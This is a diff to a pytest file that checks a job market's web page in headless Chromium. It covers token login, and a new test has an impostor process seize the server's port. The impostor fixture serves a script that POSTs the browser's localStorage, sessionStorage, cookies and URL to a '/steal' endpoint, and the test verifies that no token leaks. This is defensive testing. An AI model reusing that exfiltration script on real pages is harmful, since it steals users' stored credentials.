@@ -1,18 +1,22 @@
 """The market's web page in headless Chromium (Debian's chromium and chromium-driver, driven
-with selenium): it loads, shows a submitted job and the price, and updates by itself after a
-completion. A screenshot is saved (to $MARKETSCHED_ARTIFACTS if set, else the test's tmp
-folder; its path is printed)."""
+with selenium): it loads, takes the token in its form, shows a submitted job and the price,
+and updates by itself after a completion; and a process that takes the port while the broker
+is down gets neither the token nor anything that stands for it. A screenshot is saved (to
+$MARKETSCHED_ARTIFACTS if set, else the test's tmp folder; its path is printed)."""
 
+import hashlib
 import os
 import shutil
+import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
 
 from live_helpers import work
-from marketsched.live.api import MarketServer
 from marketsched.live.broker import Broker, MarketConfig
+from marketsched.live.server import MarketServer
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
 CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"
@@ -62,10 +66,18 @@ def wait(driver, pred, timeout=60.0):  # a guard against a hang, not a timing cl
     return False
 
 
+def login(browser, token):
+    from selenium.webdriver.common.by import By
+
+    assert wait(browser, lambda d: d.find_element(By.ID, "login").is_displayed())
+    browser.find_element(By.ID, "token").send_keys(token)
+    browser.find_element(By.ID, "save").click()
+
+
 def test_web_page_shows_jobs_price_and_updates(tmp_path, browser):
     from selenium.webdriver.common.by import By
 
-    broker = Broker(tmp_path / "market", MarketConfig(slots=1)).start()
+    broker = Broker(tmp_path / "market", MarketConfig(slots=1, single_user=True)).start()
     admin_token = broker.ensure_admin()
     srv = MarketServer(broker, "127.0.0.1", 0)
     srv.serve_in_thread()
@@ -76,7 +88,8 @@ def test_web_page_shows_jobs_price_and_updates(tmp_path, browser):
         time.sleep(0.3)
         release = tmp_path / "release-high"  # bob's job runs until the test has seen the page with it
         high = broker.submit("bob", False, 5.0, f"while [ ! -e {release} ]; do sleep 0.05; done")["id"]
-        browser.get(f"{srv.url}/#token={admin_token}")
+        browser.get(f"{srv.url}/")
+        login(browser, admin_token)
 
         def text(el_id):
             return browser.find_element(By.ID, el_id).text
@@ -98,16 +111,93 @@ def test_web_page_shows_jobs_price_and_updates(tmp_path, browser):
         assert wait(browser, lambda d: f"\n{low} alice 2.00" in "\n" + text("running"))
         assert text("price") == "1.000"  # nothing queued: the reservation price
         assert int(browser.find_element(By.TAG_NAME, "body").get_attribute("data-refreshes")) > refreshes
-        assert "token" not in browser.current_url  # the token left the address bar
+        kept = browser.execute_script("return JSON.stringify(localStorage) + JSON.stringify(sessionStorage) + "
+                                      "document.cookie + location.href")
+        assert admin_token not in kept and hashlib.sha256(admin_token.encode()).hexdigest() not in kept
         shot = out / "live_market_page.png"
         assert browser.save_screenshot(str(shot)) and shot.stat().st_size > 10_000
         print(f"screenshots: {out / 'live_market_preemption.png'}, {shot}")
-        # a wrong token: the page says so and asks for one
-        browser.execute_script("localStorage.setItem('marketsched-token', 'wrong')")
+        # a reload forgets the token; a wrong one: the page says so and asks again
         browser.refresh()
+        login(browser, "wrong")
         assert wait(browser, lambda d: "wrong token" in text("error"))
         assert browser.find_element(By.ID, "login").is_displayed()
     finally:
         srv.shutdown()
         srv.server_close()
+        broker.stop(kill_jobs=True)
+
+
+IMPOSTOR_PAGE = b"""<!doctype html><html><body><script>
+fetch("/steal", {method: "POST", body: JSON.stringify({local: JSON.stringify(localStorage),
+  session: JSON.stringify(sessionStorage), cookie: document.cookie, url: location.href})});
+</script></body></html>"""
+
+
+class Impostor(BaseHTTPRequestHandler):
+    """Records every request it gets; serves a page that sends it whatever the browser keeps
+    for this origin; answers the market's API as if the token were wrong."""
+
+    seen: list = []
+
+    def log_message(self, *args):
+        pass
+
+    def _record(self):
+        n = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(n) if n else b""
+        self.seen.append(f"{self.command} {self.path}\n{self.headers}\n{body.decode(errors='replace')}")
+
+    def _send(self, status, body, ctype):
+        self.send_response(status)
+        self.send_header("Content-Type", ctype)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_GET(self):
+        self._record()
+        if self.path == "/":
+            self._send(200, IMPOSTOR_PAGE, "text/html")
+        else:
+            self._send(401, b'{"error": "wrong token: no user has this token"}', "application/json")
+
+    def do_POST(self):
+        self._record()
+        self._send(200, b"{}", "application/json")
+
+
+def test_a_process_that_takes_the_port_gets_no_token(tmp_path, browser):
+    from selenium.webdriver.common.by import By
+
+    broker = Broker(tmp_path / "market", MarketConfig(slots=1)).start()
+    admin_token = broker.ensure_admin()
+    srv = MarketServer(broker, "127.0.0.1", 0)
+    srv.serve_in_thread()
+    impostor = None
+    try:
+        browser.get(f"{srv.url}/")
+        login(browser, admin_token)
+        assert wait(browser, lambda d: d.find_element(By.ID, "me").text == "admin (admin)")
+        port = srv.port
+        srv.shutdown()  # the broker's server is down; someone else takes its port
+        Impostor.seen = []
+        impostor = ThreadingHTTPServer(("127.0.0.1", port), Impostor)
+        threading.Thread(target=impostor.serve_forever, daemon=True).start()
+        # the open page polls on: now the impostor answers (401: the page forgets its key and asks again)
+        assert wait(browser, lambda d: any("/api/market" in r for r in Impostor.seen), 20), Impostor.seen
+        assert wait(browser, lambda d: d.find_element(By.ID, "login").is_displayed())
+        # the impostor serves its own page at the same origin (a reload, a bookmark)
+        browser.refresh()
+        assert wait(browser, lambda d: any(r.startswith("POST /steal") for r in Impostor.seen), 20), Impostor.seen
+        got = "\n".join(Impostor.seen)
+        token_hash = hashlib.sha256(admin_token.encode()).hexdigest()
+        assert "MarketSig kid=" in got  # the page's signed reads reached the impostor ...
+        assert admin_token not in got and token_hash not in got  # ... and neither the token nor its hash did
+        assert "Bearer" not in got
+    finally:
+        if impostor is not None:
+            impostor.shutdown()
+            impostor.server_close()
+        srv.shutdown()
         broker.stop(kill_jobs=True)
